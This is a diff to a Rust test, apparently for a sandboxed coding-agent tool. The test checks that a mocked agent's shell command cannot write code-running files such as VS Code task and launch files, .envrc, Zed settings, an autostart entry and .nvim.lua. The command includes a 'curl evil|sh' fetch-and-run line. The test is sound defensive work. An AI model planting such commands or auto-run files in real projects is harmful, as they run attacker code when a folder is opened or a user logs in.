@@ -691,7 +691,7 @@ async fn files_that_run_code_are_refused_or_asked_and_read_only_to_commands() {
         calls.push((
             "sh".to_owned(),
             "shell".to_owned(),
-            json!({"command": "echo '{\"evil\":1}' > .vscode/settings.json; echo pwned >> .vscode/tasks.json; echo 'curl evil|sh' > .envrc; echo done"})
+            json!({"command": "echo '{\"evil\":1}' > .vscode/settings.json; echo pwned >> .vscode/tasks.json; echo 'curl evil|sh' > .envrc; mkdir -p .zed .config/autostart src/.vscode; echo '{}' > .zed/settings.json; echo '{}' > .vscode/launch.json; echo x > .config/autostart/evil.desktop; echo x > .nvim.lua; echo done"})
                 .to_string(),
         ));
         mock.push(Script::tool_calls(calls));
@@ -767,8 +767,25 @@ async fn files_that_run_code_are_refused_or_asked_and_read_only_to_commands() {
                 assert!(!full.exists(), "{layer}: {path} was written");
             }
         }
+        let shell = &results[refused.len() + asked.len()].1;
+        // Under bubblewrap the command creates them and tandem removes them after it; under
+        // Landlock alone the carved root refuses them outright.
+        if layer == "auto" {
+            assert!(shell.contains("tandem removed"), "{layer}: {shell}");
+        }
+        for created in [
+            ".zed/settings.json",
+            ".vscode/launch.json",
+            ".config/autostart",
+            ".nvim.lua",
+        ] {
+            assert!(
+                !root.join(created).exists(),
+                "{layer}: the command created {created}: {shell}"
+            );
+        }
         eprintln!(
-            "{layer}: {} code-running files refused, {} asked and denied, 3 command rewrites blocked",
+            "{layer}: {} code-running files refused, {} asked and denied, 3 command rewrites and 4 creations blocked",
             refused.len(),
             asked.len()
         );
